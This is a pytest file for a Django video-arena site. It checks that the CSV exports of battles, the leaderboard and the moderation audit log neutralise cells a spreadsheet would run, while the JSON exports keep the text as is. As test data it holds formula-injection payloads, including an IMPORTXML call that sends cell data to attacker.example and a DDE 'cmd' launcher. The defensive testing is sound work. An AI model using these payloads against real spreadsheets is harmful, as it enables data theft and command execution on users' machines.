"""No CSV the site writes carries a cell a spreadsheet would run (issue 12, item 5): the
battle export, the leaderboard export and the moderators' audit log neutralise cells that
start with =, +, -, @, a tab or a carriage return (OWASP); JSON exports keep the text as is."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client
from django.utils import timezone

from webapp.arena.models import Battle, Vote, Winner
from webapp.arena.services import board
from webapp.catalog.models import VideoModel
from webapp.core.csv_cells import neutralise
from webapp.moderation import audit
from webapp.moderation.models import AuditEntry
from webapp.studio.models import Prompt

pytestmark = pytest.mark.django_db

FORMULA = '=IMPORTXML("http://attacker.example/?x="&A1,"//a")'


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\rcmd", "  =1+1", "\uff1d1+1", "-cmd|' /C calc'!A0"]
)
def test_cells_a_spreadsheet_would_run_are_neutralised(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["a red fox", "", "1+1", "'=already quoted", 0.5, -3, None, True])
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell


def rows(response) -> list[dict]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.fixture
def formula_arena(make_clips):
    """A stored prompt and a model whose texts are formulas (imported data, an older version,
    an admin's typo: the exports must be safe whatever the database holds)."""
    prompt = make_clips(prompts=1)[0]
    Prompt.objects.filter(pk=prompt.pk).update(text=FORMULA, category="-animals")
    jobs = list(prompt.jobs.select_related("model", "clip"))
    VideoModel.objects.filter(pk=jobs[0].model_id).update(display_name="@Aurora")
    for n in range(12):
        battle = Battle.objects.create(
            prompt=prompt, left=jobs[0].clip, right=jobs[1].clip, pool=prompt.pool, voter_key=f"v{n}", pair_key=f"p{n}"
        )
        Vote.objects.create(
            battle=battle,
            model_a=jobs[0].model,
            model_b=jobs[1].model,
            winner=Winner.MODEL_A if n % 3 else Winner.MODEL_B,
            pool=prompt.pool,
            category="-animals",
            voter_key=f"=v{n}",
            ip_hash="x",
            created_at=timezone.now(),
        )
    return prompt


def test_the_battle_export_csv_neutralises_and_the_json_keeps_the_text(client, formula_arena):
    exported = rows(client.get("/api/v1/battles/export?format=csv"))
    assert exported and all(r["prompt"] == "'" + FORMULA for r in exported)
    assert all(r["category"] == "'-animals" for r in exported)
    as_json = client.get("/api/v1/battles/export?format=json").json()
    assert all(r["prompt"] == FORMULA for r in as_json)


def test_the_leaderboard_csv_neutralises_names(client, formula_arena, settings):
    settings.LEADERBOARD_MIN_VOTES = 1
    settings.RATING_BOOTSTRAP_ROUNDS = 20
    board.recompute(formula_arena.pool)
    exported = rows(client.get(f"/api/v1/leaderboard?format=csv&pool={formula_arena.pool}"))
    names = {r["name"] for r in exported}
    assert "'@Aurora (procedural demo)" in names and not any(n[:1] in "=+-@" for n in names)


def test_the_audit_log_csv_neutralises_every_text_cell(db):
    moderator = User.objects.create_user("@mod", password="x-long-password-1")
    moderator.user_permissions.add(Permission.objects.get(codename="moderate"))
    audit.record(AuditEntry.Action.HIDE, AuditEntry.TargetKind.CLIP, "+clip", actor=moderator, reason="-1+1")
    client = Client()
    client.force_login(moderator)
    (entry,) = rows(client.get("/moderation/audit.csv"))
    assert (entry["actor"], entry["target_id"], entry["reason"]) == ("'@mod", "'+clip", "'-1+1")
